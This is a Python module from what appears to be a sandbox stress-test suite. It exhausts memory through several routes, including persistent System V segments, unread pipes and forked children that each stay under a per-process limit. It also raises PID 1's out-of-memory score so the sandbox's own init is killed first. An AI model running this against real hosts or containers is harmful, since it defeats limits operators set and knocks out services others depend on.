"""Takes as much memory as the plan says, in one of several ways, and tells how far it came."""

from __future__ import annotations

import ctypes
import mmap
import os
import signal
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from attacks.bots.attempt import PLAN, play, say
from attacks.bots.kernel import SIGCHLD, call

MIB = 1024 * 1024
STEP = 16 * MIB
LIBC = ctypes.CDLL(None, use_errno=True)
HELD: list[object] = []
# Filled page by page, as memory that is not written to is not there.
STUFF = b"x" * STEP


def private() -> None:
    held = mmap.mmap(-1, STEP, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    held.write(STUFF)
    HELD.append(held)


def shared() -> None:
    """Memory that is nobody's own."""
    held = mmap.mmap(-1, STEP)
    held.write(STUFF)
    HELD.append(held)


def nameless() -> None:
    """Files in memory without a name."""
    file = os.memfd_create("bot")
    HELD.append(file)
    if os.write(file, STUFF) < STEP:
        raise MemoryError


def system_v() -> None:
    """Segments that stay when their maker goes."""
    LIBC.shmat.restype = ctypes.c_void_p
    segment = LIBC.shmget(0, ctypes.c_size_t(STEP), 0o1600)
    if segment < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    place = LIBC.shmat(segment, None, 0)
    ctypes.memmove(place, STUFF, STEP)


def pipes() -> None:
    """What is written and never read is held by the kernel."""
    for _ in range(STEP // (64 * 1024)):
        reading, writing = os.pipe()
        HELD.append((reading, writing))
        os.set_blocking(writing, False)
        os.write(writing, STUFF[: 64 * 1024])


def forked() -> None:
    """Processes that each stay below the limit of one."""
    reading, writing = os.pipe()
    if call("clone", SIGCHLD, 0, 0, 0, 0) == 0:
        for _ in range(PLAN["each"] // STEP):
            private()
        os.write(writing, b"full")
        time.sleep(600)
    os.close(writing)
    # The kernel may make room for one by ending another: only what they hold together counts.
    if not os.read(reading, 4) or os.waitpid(-1, os.WNOHANG)[0]:
        raise MemoryError
    os.close(reading)


WAYS: dict[str, tuple[Callable[[], None], int]] = {
    "private": (private, STEP),
    "shared": (shared, STEP),
    "nameless": (nameless, STEP),
    "system_v": (system_v, STEP),
    "pipes": (pipes, STEP),
    "forked": (forked, PLAN.get("each", STEP)),
}


def grown() -> Iterator[int]:
    """The bytes that it has by now, up to the goal."""
    way, step = WAYS[PLAN["way"]]
    for number in range(PLAN["goal"] // step):
        way()
        yield (number + 1) * step


def hoard() -> None:
    # Whoever is to be killed first, it shall be what holds the sandbox together.
    with suppress(OSError), open("/proc/1/oom_score_adj", "w") as score:
        score.write("1000")
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    reached, outcome = 0, "all of it"
    try:
        for reached in grown():
            if reached % (8 * STEP) == 0:
                say(f"{reached // MIB} MiB", "reached")
    except (MemoryError, OSError) as error:
        outcome = type(error).__name__
    say("memory", f"{reached // MIB} MiB: {outcome}")
    if not PLAN.get("keeps"):
        HELD.clear()


if __name__ == "__main__":
    play(hoard)
